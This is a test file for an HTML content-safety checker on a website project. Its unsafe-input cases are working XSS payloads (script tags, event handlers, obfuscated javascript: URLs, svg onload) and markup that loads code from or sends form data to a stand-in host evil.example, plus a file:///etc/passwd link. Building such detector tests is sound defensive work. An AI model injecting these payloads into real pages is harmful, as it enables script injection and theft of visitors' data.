import lxml.html
import pytest

from coproweek.checks.content_safety import add_noopener, find_unsafe_markup


def problems(html, **kwargs):
    return [p.what for p in find_unsafe_markup(html, **kwargs)]


@pytest.mark.parametrize("html", [
    "<p>Plain <strong>text</strong> with <a href='https://example.org/'>a link</a>.</p>",
    "<table><tr><th scope='col'>A</th></tr></table>",
    "<details><summary>More</summary><p>Hidden</p></details>",
    # What python-markdown's extra, toc and smarty write.
    "<table><thead><tr><th style='text-align: left;'>a</th><th style='text-align: right'>b</th></tr></thead></table>",
    "<p>x<sup id='fnref:1'><a class='footnote-ref' href='#fn:1'>1</a></sup> <abbr title='Hyper'>HTML</abbr></p>"
    "<div class='footnote'><hr><ol><li id='fn:1'><p>n&#160;<a class='footnote-backref' href='#fnref:1' "
    "title='Back'>&#8617;</a></p></li></ol></div>",
    "<dl><dt>Term</dt><dd>def</dd></dl><pre><code>&lt;script&gt;</code></pre><h2 id='x' class='y'>H</h2>",
    "<img src='{static}/images/a.jpg' alt='A' width='10' height='10'> <a href='{filename}/blog/a.md'>a</a>",
    "<a href='mailto:events@scie.org.uk'>mail</a> <a href='tel:+442077668000'>call</a> <a href='#top'>top</a>",
    "<p aria-describedby='x' lang='cy'>Croeso</p><!-- a comment -->",
    "<iframe src='https://www.youtube-nocookie.com/embed/x' title='Webinar recording'></iframe>",
    "<p>The word javascript: in text is fine, and so is onion.</p>",
    "",
])
def test_safe_html_passes(html):
    assert problems(html) == []


@pytest.mark.parametrize("html, expected", [
    ("<script>alert(1)</script>", "<script>"),
    ("<p>x</p><SCRIPT src='https://evil.example/x.js'></SCRIPT>", "<script>"),
    ("<img src='x.jpg' alt='' onerror='alert(1)'>", "onerror="),
    ("<a href='#' ONCLICK='steal()'>x</a>", "onclick="),
    ("<a href='javascript:alert(1)'>x</a>", "'javascript:'"),
    ("<a href=' JaVa\tScript:alert(1)'>x</a>", "runs code"),
    ("<a href='&#106;avascript:alert(1)'>x</a>", "runs code"),
    ("<img src='x.jpg' srcset='a.jpg 1x, javascript:alert(1) 2x' alt=''>", "runs code"),
    ("<blockquote cite='vbscript:msgbox(1)'>x</blockquote>", "runs code"),
    ("<a href='file:///etc/passwd'>x</a>", "not a kind of address"),
    ("<img src='https://tracker.example/pixel.gif' alt=''>", "loaded from another site (tracker.example)"),
    ("<img src='//tracker.example/pixel.gif' alt=''>", "loaded from another site"),
    ("<img src='/images/a.jpg' srcset='/images/a.jpg 1x, https://cdn.example/a.jpg 2x' alt=''>", "another site (cdn.example)"),
    # The examples: redirect, capture, re-base, restyle.
    ("<meta http-equiv='refresh' content='0;url=https://evil.example/'>", "<meta>"),
    ("<form action='https://evil.example/collect'><input name='email'></form>", "<form>"),
    ("<base href='https://evil.example/'>", "<base>"),
    ("<style>body { display: none }</style>", "<style>"),
    # Members of the same class the issue did not name.
    ("<link rel='stylesheet' href='https://evil.example/x.css'>", "<link>"),
    ("<p>x</p><body onload='alert(1)'>", "<body>"),
    ("<HTML manifest='x'>", "<html>"),
    ("<svg/onload=alert(1)>", "<svg>"),
    ("<math><mi>x</mi></math>", "<math>"),
    ("<button formaction='https://evil.example/'>Go</button>", "<button>"),
    ("<textarea>x</textarea>", "<textarea>"),
    ("<template><script>alert(1)</script></template>", "<template>"),
    ("<noscript><p>x</p></noscript>", "<noscript>"),
    ("<marquee>x</marquee>", "<marquee>"),
    ("<a href='/x/' target='_blank'>x</a>", "target="),
    ("<p style='position: fixed; inset: 0'>x</p>", "style="),
    ("<td style='text-align: left; background: url(https://evil.example/t.gif)'>x</td>", "style="),
    ("<h2 onclick='a'>Made with attr_list</h2>", "onclick="),
    ("<iframe src='http://www.youtube-nocookie.com/embed/x' title='x'></iframe>", "not on the list"),
    ("<a href='data:text/html,<script>alert(1)</script>'>x</a>", "runs code"),
    ("<iframe src='https://evil.example/frame'></iframe>", "evil.example"),
    ("<iframe srcdoc='<script>alert(1)</script>'></iframe>", "not on the list"),
    ("<embed src='https://www.youtube-nocookie.com/x.swf'>", "<embed>"),
    ("<object data='movie.swf'></object>", "<object>"),
])
def test_unsafe_html_is_reported(html, expected):
    found = problems(html)
    assert found and any(expected in what for what in found), found


def test_iframe_hosts_are_configurable():
    html = "<iframe src='https://video.partner.example/embed/1' title='x'></iframe>"
    assert problems(html)
    assert problems(html, iframe_hosts=("video.partner.example",)) == []


def test_external_links_get_noopener_and_internal_do_not():
    html = add_noopener("<p><a href='https://example.org/'>out</a> <a href='/events/'>in</a> "
                        "<a href='https://www.coproductionweek.org.uk/about/'>own</a> "
                        "<a href='https://x.example/' rel='external'>x</a></p>",
                        {"www.coproductionweek.org.uk"})
    links = {a.text: a.get("rel") for a in lxml.html.fromstring(html).iter("a")}
    assert links == {"out": "noopener", "in": None, "own": None, "x": "external noopener"}


def test_html_without_external_links_is_returned_unchanged():
    html = "<p>Text &amp; <a href='/x/'>link</a></p>"
    assert add_noopener(html) is html


def test_noopener_keeps_text_before_the_first_tag_escaped():
    html = add_noopener("Fish &amp; chips &lt;b&gt; <a href='https://example.org/'>out</a> after")
    assert html.startswith("Fish &amp; chips &lt;b&gt; <a ")
    assert html.endswith("</a> after")
